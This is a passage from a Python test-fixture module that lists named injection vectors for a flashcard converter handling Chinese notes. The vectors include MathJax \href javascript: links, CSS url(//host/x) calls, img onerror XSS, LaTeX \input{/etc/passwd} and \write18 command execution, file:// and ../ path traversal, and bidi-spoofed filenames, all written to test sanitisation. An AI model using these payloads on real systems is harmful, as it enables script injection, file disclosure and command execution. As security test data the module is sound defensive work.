        "分段定义如下：\n\n"
        + r"""\begin{aligned}
f(x) &= \href{javascript:alert(1)}{x^2} \\
g(x) &= 2x
\end{aligned}""",
    ),
    ("mj_obf_href_after_newline_space", _formula("换行之后：", r"a = 1 \\ \href{//host/x}{b} = 2")),
    ("mj_obf_href_after_newline_tight", _formula("紧贴换行：", r"a = 1\\\href{javascript:alert(1)}{b}")),
    (
        "mj_obf_href_entity_scheme",
        _concept("实体协议公式", r"\(\href{&#106;avascript:alert(1)}{x}\) 网页解码后交给渲染器"),
    ),
    ("mj_obf_href_entity_colon", _concept("实体冒号公式", r"$\href{javascript&colon;alert(1)}{x}$ 命名冒号")),
    ("mj_obf_href_entity_slashes", _concept("实体斜杠公式", r"$\href{&#47;&#47;host/x}{x}$ 解码成双斜杠")),
    ("mj_obf_href_leading_space_url", _concept("地址前空格", r"$\href{   javascript:alert(1)}{x}$ 会被裁掉")),
    ("mj_obf_href_upper_scheme", _concept("大写协议公式", r"$\href{JavaScript:alert(1)}{x}$ 大小写混合")),
    ("mj_obf_href_slash_backslash", _concept("反斜杠地址", r"$\href{/\host/x}{x}$ 参数按原样读取")),
    ("mj_obf_href_tex_percent_comment", _formula("百分号注释：", "\\href{%6A%61vascript:alert(1)}{x}\n}{y}")),
    ("mj_obf_href_escaped_percent", _concept("转义百分号", r"$\href{\%2F\%2Fhost/x}{x}$ 编码的斜杠")),
    ("mj_obf_href_in_operatorname", _concept("算子名链接", r"$\operatorname{\href{//host/x}{f}}(x)$ 藏在算子里")),
    ("mj_obf_href_in_subscript", _cloze("下标是", r"$x_{\href{javascript:alert(1)}{i}}$", "，需要逐项求和。")),
    ("mj_obf_href_in_frac", _formula("分数里的链接：", r"\frac{\href{javascript:alert(1)}{1}}{2}")),
    ("mj_obf_href_in_mathchoice", _formula("按样式选择：", r"\mathchoice{\href{//h/x}{a}}{b}{c}{d}")),
    ("mj_obf_def_with_param", _formula("带参数的宏：", r"\def\x#1{\href{#1}{y}}\x{javascript:alert(1)}")),
    ("mj_obf_newcommand_no_braces", _concept("无括号定义", r"\(\newcommand\h{\href}\h{//host/x}{y}\) 别名命令")),
    (
        "mj_obf_renewcommand_builtin",
        _formula("覆盖内置命令：", r"\renewcommand{\sqrt}{\href{javascript:alert(1)}}\sqrt{x}"),
    ),
    (
        "mj_obf_newenvironment",
        _formula("自定义环境：", r"\newenvironment{e}{\href{//host/x}\bgroup}{\egroup}\begin{e}x\end{e}"),
    ),
    ("mj_obf_let_equals_style", _concept("等号别名", r"$\let\s=\style \s{background:url(//host/x)}{x}$ 复制命令")),
    (
        "mj_obf_declare_operator_star",
        _formula("带星号的算子：", r"\DeclareMathOperator*{\h}{\href{//host/x}{y}}\h_{n}"),
    ),
    (
        "mj_obf_begingroup_def",
        _formula("分组内定义：", r"\begingroup\def\q{\style{background:url(//h/x)}}\q{x}\endgroup"),
    ),
    ("mj_obf_style_css_escape", _concept("样式转义", r"$\style{background:u\72l(//h/x)}{x}$ 转义的函数名")),
    ("mj_obf_style_import", _concept("样式导入", r"$\style{@import url(//host/x.css)}{x}$ 规则放进属性")),
    ("mj_obf_bbox_css_comment", _concept("带注释的框", r"$\bbox[5px,background:/**/url(//h/x)]{x}$ 注释分隔")),
    ("mj_obf_color_expression", _concept("表达式颜色", r"$\color{expression(alert(1))}{x}$ 旧式动态样式")),
    ("mj_obf_unicode_font_src", _concept("字体来源", r"$\unicode[f; src:url(//host/x.woff)]{x41}$ 字体参数注入")),
    ("mj_obf_require_scheme_relative", _concept("远程扩展", r"$\require{//host/x.js}$ 省略协议")),
    ("mj_obf_require_path_prefix", _concept("路径扩展", r"$\require{[tex]/../../../host/x}$ 相对路径")),
    ("mj_obf_mmltoken_style", _concept("标记样式", r'$\mmlToken{mi}[style="background:url(//h/x)"]{x}$ 属性注入')),
    ("mj_obf_mmltoken_onclick", _concept("标记事件", r'$\mmlToken{mi}[onclick="alert(1)"]{x}$ 事件属性')),
    ("mj_obf_cssid_clobber_qa", _qa("能覆盖卡片容器吗？", r"$\cssId{qa}{x}$ 与容器同名的标识。")),
    ("mj_obf_html_inside_dollar", _concept("公式里的标签", "$<img src=//h/x onerror=alert(1)>$ 被当作公式保护")),
    ("mj_obf_html_inside_text", _concept("文本里的标签", r"\(\text{<img src=//h/x onerror=alert(1)>}\) 文本参数")),
    (
        "mj_obf_close_delim_in_text",
        _concept("提前结束", r"\(\text{\)<img src=//h/x onerror=alert(1)>\(}\) 公式中间关闭"),
    ),
]

# ---------------------------------------------------------------------------
# delimiters: text that must not turn into live math
# ---------------------------------------------------------------------------

# A formula whose braces or trailing backslash would make MathJax read on into the prose after it.
_MATHJAX += [
    (
        "mj_obf_unbalanced_brace_leak",
        _concept("花括号泄漏", r"先写 $a{$ 再写 \href{javascript:alert(1)}{点} 最后 $}$ 收尾"),
    ),
    (
        "mj_obf_trailing_backslash_leak",
        _concept("反斜杠泄漏", r"先写 $$ a \ $$ 再写 \href{javascript:alert(1)}{点} 和 $b$"),
    ),
    (
        "mj_obf_bracket_brace_leak",
        _qa("方括号泄漏？", r"看 \(x{\) 中间 \style{background:url(//h/x)}{y} 再 \(}\) 结束。"),
    ),
]

_DELIMITERS = [
    ("delim_entity_dec_paren", _qa("怎样写出反斜杠括号？", "用实体 &#92;(x^2&#92;) 显示为文字。")),
    ("delim_entity_bsol_paren", _concept("命名反斜杠", "&bsol;(x&bsol;) 只是文字")),
    ("delim_double_backslash_paren", _cloze("在文字里写", r"\\(x\\)", "会被转义成单个反斜杠。")),
    ("delim_span_split_paren", _concept("拆开的定界符", r"<span>\(</span>x\) 被标签分开")),
    ("delim_inline_code_paren", _concept("代码里的定界符", r"`\(x\)` 必须保持为代码")),
    ("delim_entity_hex_bracket", _concept("十六进制反斜杠", "&#x5c;[x&#x5c;] 只是文字")),
    ("delim_entity_dec_bracket", _heading("实体不会变成公式", "因为 &#92;[x&#92;] 是写给读者看的。")),
    ("delim_entity_upper_hex", _concept("大写十六进制", "&#X5C;(x&#X5C;) 只是文字")),
    ("delim_entity_no_semicolon", _concept("无分号反斜杠", "&#92(x&#92) 浏览器照样解码")),
    ("delim_entity_zero_padded", _concept("补零反斜杠", "&#0092;(x&#0092;) 前导零")),
    ("delim_double_encoded", _concept("双重编码", "&amp;#92;(x&amp;#92;) 解码两次才是定界符")),
    ("delim_entity_with_href", _concept("实体包链接", r"&#92;(\href{javascript:alert(1)}{x}&#92;) 若变成公式就是链接")),
    (
        "delim_entity_bsol_with_style",
        _qa("命名实体包样式？", r"&bsol;[\style{background:url(//h/x)}{x}&bsol;] 不应生效。"),
    ),
    ("delim_double_backslash_bracket", _concept("双反斜杠方括号", r"\\[x\\] 在文字里")),
    ("delim_triple_backslash_paren", _concept("三反斜杠", r"\\\(x\\\) 转义后恰好是定界符")),
    ("delim_span_split_bracket", _concept("拆开的方括号", r"<span>\[</span>x\] 被标签分开")),
    ("delim_bold_split_paren", _concept("空标签拆分", r"\<b></b>(x\) 中间夹空标签")),
    ("delim_inline_code_bracket", _concept("代码方括号", r"`\[x\]` 保持代码")),
    ("delim_inline_code_dollar", _concept("代码美元", "`$x$` 和 `$$y$$` 都是代码")),
    (
        "delim_fenced_code",
        _heading("代码块里的公式不渲染", "因为下面是代码：\n\n```\n\\(x\\) and \\[y\\] and $$z$$\n```"),
    ),
    ("delim_indented_code", _heading("缩进代码也不渲染", "因为它是代码：\n\n    \\(x\\) $y$\n\n以上是原文。")),
    ("delim_escaped_dollar", _concept("转义美元", r"价格写作 \$5\$ 不是公式")),
    ("delim_dollar_prices", _qa("两件商品多少钱？", "一件 $5，另一件 $6，合计 $11。")),
    ("delim_attr_title", _concept("属性里的定界符", r'<span title="\(x\)">悬停</span>提示文字')),
    ("delim_img_alt", _concept("替代文字定界符", r"![\(x\)](a.png) 图片说明")),
    ("delim_html_comment", _concept("注释里的定界符", r"<!-- \(x\) --> 不显示")),
    ("delim_entity_in_code", _concept("代码里的实体", "`&#92;(x&#92;)` 应原样显示实体")),
    ("delim_fullwidth_backslash", _concept("全角反斜杠", "＼(x＼) 不是定界符")),
]

# ---------------------------------------------------------------------------
# anki: sound/latex tags, cloze and template syntax, control characters
# ---------------------------------------------------------------------------

_ANKI = [
    ("anki_sound_http", _concept("远程声音", "[sound:http://host/x.mp3] 网络音频")),
    ("anki_sound_https_upper", _concept("大写声音", "[sound:HTTPS://host/x.mp3] 大写协议")),
    ("anki_sound_scheme_relative", _concept("省略协议声音", "[sound://host/x.mp3] 双斜杠")),
    ("anki_sound_text", _qa("怎样播放发音？", "写 [sound:x.mp3] 就会播放。")),
    ("anki_sound_in_md_alt", _concept("图片说明中的声音", "![[sound:x.mp3]](a.png) 替代文字")),
    ("anki_sound_in_html_alt", _concept("属性中的声音", '<img src="a.png" alt="[sound:x.mp3]"> 替代文字')),
    ("anki_sound_in_title_attr", _concept("标题中的声音", '<span title="[sound:x.mp3]">字</span> 提示')),
    ("anki_sound_path_traversal", _concept("上级目录声音", "[sound:../../x.mp3] 路径穿越")),
    ("anki_sound_in_cloze", _cloze("这个单词读作", "[sound:x.mp3]", "。")),
    ("anki_latex_input", _concept("排版读取", r"[latex]\input{/etc/passwd}[/latex] 读文件")),
    ("anki_latex_write18", _concept("排版执行", r"[latex]\immediate\write18{id}[/latex] 执行命令")),
    ("anki_latex_dollar", _qa("行内排版？", "[$]x[/$] 由排版程序生成图片。")),
    ("anki_latex_double_dollar", _qa("行间排版？", "[$$]x[/$$] 由排版程序生成图片。")),
    ("anki_latex_mixed_case", _concept("大写排版", r"[LaTeX]\input{/etc/hosts}[/LaTeX] 大小写")),
    ("anki_cloze_in_basic_answer", _qa("首都是哪里？", "答案是 {{c1::x}}，写在普通卡片里。")),
    ("anki_cloze_hint_in_concept", _concept("提示挖空", "{{c1::x::提示}} 带提示")),
    ("anki_cloze_with_html", _concept("挖空标签", "{{c1::<img src=//h/x onerror=alert(1)>}} 挖空里的图片")),
    ("anki_cloze_inside_highlight", _cloze("嵌套语法", "{{c2::y}}", "放进高亮。")),
    ("anki_template_field_ref", _qa("模板字段？", "{{Front}} 和 {{FrontSide}} 会被替换。")),
    ("anki_template_conditional", _concept("条件模板", "{{#Back}}显示{{/Back}}{{^Back}}隐藏{{/Back}}")),
    ("anki_template_filters", _concept("模板过滤器", "{{text:Back}} {{type:Back}} {{hint:Back}}")),
    ("anki_tts_tag", _concept("朗读标签", "[anki:tts lang=en_US]hello[/anki:tts] 语音合成")),
    ("anki_field_separator_text", _concept("字段分隔", "左边\x1f右边 被分成两个字段")),
    ("anki_field_separator_question", _qa("分隔符\x1f在问题里？", "不应产生多余字段。")),
    ("anki_field_separator_cloze", _cloze("挖空内容", "前\x1f后", "含分隔符。")),
    ("anki_field_separator_heading", _heading("标题\x1f会被切开", "因为分隔符在导入时有特殊含义。")),
    ("anki_field_separator_img_path", _concept("路径分隔", "![a](x\x1f.png) 文件名含分隔符")),
    ("anki_nul_text", _concept("空字符", "前\x00后 中间有空字符")),
    ("anki_record_separator", _concept("记录分隔", "前\x1e后 记录分隔符")),
    ("anki_unit_and_group_separators", _qa("其它分隔符？", "\x1c文件 \x1d组 \x1e记录 \x1f单元")),
    ("anki_other_controls", _concept("控制字符", "响铃\x07退格\x08纵表\x0b换页\x0c转义\x1b删除\x7f")),
    ("anki_crlf_with_separator", "Q: 换行是回车加换行？\r\nA: 是的\x1f而且有分隔符。\r\n"),
    ("anki_unicode_line_separators", _concept("行分隔符", "前\u2028中\u2029后")),
    ("anki_bidi_override", _concept("方向覆盖", "文件名 \u202egnp.exe 看起来是图片")),
]

# ---------------------------------------------------------------------------
# paths: media paths that escape the notes folder or smuggle attributes
# ---------------------------------------------------------------------------

_PATHS = [
    ("path_dotdot_passwd", _concept("上级目录", "![a](../../etc/passwd.png) 路径穿越")),
    ("path_absolute_unix", _concept("绝对路径", "![a](/etc/passwd.png) 根目录")),
    ("path_windows_drive", _concept("盘符路径", r"![a](C:\Windows\win.ini) 反斜杠盘符")),
    ("path_windows_drive_forward", _concept("正斜杠盘符", "![a](C:/Windows/win.ini) 正斜杠")),
    ("path_file_url_md", _concept("文件协议", "![a](file:///etc/passwd) 本地文件")),
    ("path_file_url_html", _qa("图片能读本地文件吗？", '<img src="file:///etc/passwd"> 不应被打包。')),
    ("path_file_url_upper_short", _concept("短文件协议", "![a](FILE:/etc/passwd) 大写单斜杠")),
    ("path_percent_dotdot", _concept("编码上级", "![a](%2e%2e/%2e%2e/x.png) 编码的点")),
    ("path_percent_slash", _concept("编码斜杠", "![a](..%2f..%2fx.png) 编码的斜杠")),
    ("path_percent_backslash", _concept("编码反斜杠", "![a](..%5c..%5cx.png) 编码的反斜杠")),
    ("path_windows_dotdot", _concept("反斜杠上级", r"![a](..\..\x.png) 反斜杠")),
    ("path_mixed_dot_slash", _concept("混合上级", r"![a](.\..\x.png) 点和反斜杠")),
    ("path_double_dot_collapse", _concept("折叠上级", "![a](....//x.png) 去掉一层后仍是上级")),
    ("path_inner_dotdot", _concept("中间上级", "![a](img/../../../y.png) 中途回退")),
    ("path_home_tilde", _concept("主目录", "![a](~/x.png) 波浪号")),
    ("path_unc_share", _concept("共享路径", r"![a](\\\\server\share\x.png) 转义后是网络共享")),
    ("path_proc_environ", _concept("进程环境", "![a](/proc/self/environ) 特殊文件")),
    ("path_dev_random", _concept("设备文件", "![a](/dev/urandom) 无穷数据")),
    ("path_nul_in_name", _concept("空字符文件名", "![a](x.png\x00.txt) 截断")),
    ("path_percent_nul", _concept("编码空字符", "![a](x.png%00.txt) 编码截断")),
    ("path_query_remote", _concept("查询串", "![a](x.png?//host/y) 问号后像地址")),
    ("path_fragment_remote", _concept("片段", "![a](x.png#//host/y) 井号后像地址")),
    ("path_quote_breakout_angle", _concept("引号文件名", '![a](<x.png" onerror="alert(1)>) 尖括号允许空格')),
    ("path_percent_quote_breakout", _concept("编码引号", "![a](x%22%20onerror%3D%22alert(1).png) 解码后带引号")),
    ("path_obsidian_dotdot", _concept("嵌入上级", "![[../../etc/passwd.png]] 双方括号穿越")),
    ("path_obsidian_absolute", _concept("嵌入绝对", "![[/etc/passwd.png]] 根目录")),
    ("path_html_absolute", _qa("网页图片绝对路径？", '<img src="/etc/passwd"> 不应被复制。')),
    ("path_html_dotdot_entity", _concept("实体上级", '<img src="&#46;&#46;/&#46;&#46;/x.png"> 实体的点')),
    ("path_media_folder_escape", _concept("媒体目录回退", "![a](collection.media/../x.png) 先进再出")),
    ("path_very_long_name", _concept("超长文件名", "![a](" + "a" * 300 + ".png) 超过文件系统上限")),
]

# ---------------------------------------------------------------------------
# assembly
# ---------------------------------------------------------------------------

_GROUP_LISTS = [
    ("html", _HTML),
    ("url", _URL),
    ("markdown", _MARKDOWN),
    ("mathjax", _MATHJAX),
    ("delimiters", _DELIMITERS),
    ("anki", _ANKI),
    ("paths", _PATHS),
]

VECTORS = [(vid, _doc(body)) for _, items in _GROUP_LISTS for vid, body in items]

GROUPS = {name: [vid for vid, _ in items] for name, items in _GROUP_LISTS}


def _check():
    seen = set()
    for vid, text in VECTORS:
        if not re.fullmatch(r"[a-z0-9]+(?:_[a-z0-9]+)*", vid):
            raise ValueError(f"id is not snake_case: {vid!r}")
        if vid in seen:
            raise ValueError(f"duplicate id: {vid!r}")
        seen.add(vid)
        if not isinstance(text, str) or not text.strip():
            raise ValueError(f"empty vector: {vid!r}")


_check()
